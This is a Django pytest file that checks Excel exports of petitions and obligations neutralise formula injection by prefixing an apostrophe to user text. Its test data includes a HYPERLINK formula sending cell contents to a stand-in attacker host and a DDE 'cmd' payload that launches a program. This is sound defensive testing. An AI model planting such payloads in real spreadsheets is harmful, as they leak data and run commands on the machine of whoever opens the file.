"""Excel exports: users' text that starts a formula comes out as inert, visible text (OWASP CSV injection)."""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from followup.tests.factories import make_obligation
from hdnd.excel import inert
from petitions.tests.conftest import make_petition

PAYLOAD = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'


def _cells(content: bytes) -> list[openpyxl.cell.Cell]:
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in ws.iter_rows() for cell in row]


def _assert_inert(cells: list, text: str) -> None:
    matching = [c for c in cells if isinstance(c.value, str) and text in c.value]
    assert matching, f"{text!r} không có trong tệp"
    for cell in matching:
        assert cell.data_type == "s" and not cell.value.startswith("=")
        assert cell.value == "'" + text


def test_inert_leaves_numbers_dates_and_plain_text_alone() -> None:
    day = datetime.date(2025, 1, 2)
    assert inert(-5) == -5 and inert(day) is day and inert(None) is None
    assert inert("Đề nghị sửa đường") == "Đề nghị sửa đường"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert inert(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.django_db
def test_petition_text_and_petitioner_name_starting_with_equals_are_inert(town, as_user) -> None:
    name = "=cmd|' /C calc'!A0"
    make_petition(town, PAYLOAD, people=[(name, "+84 Thôn An Ba", "0905123456")])
    response = as_user("office").get("/kien-nghi/danh-sach/excel/")
    assert response.status_code == 200
    cells = _cells(response.content)
    _assert_inert(cells, PAYLOAD)
    _assert_inert(cells, name)
    _assert_inert(cells, "+84 Thôn An Ba")
    voters = [c for c in cells if c.column == 8 and c.row == 2]
    assert voters and isinstance(voters[0].value, int)


@pytest.mark.django_db
def test_obligation_title_and_owner_starting_with_a_formula_are_inert(world, as_user) -> None:
    world.agency.name = "@SUM(1+1)*cmd"
    world.agency.save(update_fields=["name"])
    make_obligation(council=world.council, owner=world.agency, title=PAYLOAD, due_on=datetime.date(2099, 1, 31))
    response = as_user("office").get(reverse("followup:obligation_export"))
    cells = _cells(response.content)
    _assert_inert(cells, PAYLOAD)
    _assert_inert(cells, "@SUM(1+1)*cmd")
    due = next(c for c in cells if c.row == 3 and c.column == 7)
    assert isinstance(due.value, datetime.datetime) and due.value.date() == datetime.date(2099, 1, 31)
